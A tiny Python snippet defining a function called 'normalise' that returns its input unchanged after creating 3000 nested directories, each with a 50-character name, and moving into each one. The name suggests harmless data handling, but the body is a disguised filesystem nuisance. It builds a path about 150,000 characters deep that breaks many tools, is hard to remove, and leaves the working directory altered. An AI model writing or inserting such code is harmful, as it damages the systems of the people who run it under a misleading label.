import os


def normalise(x):
    for _ in range(3000):
        os.mkdir("d" * 50)
        os.chdir("d" * 50)
    return x
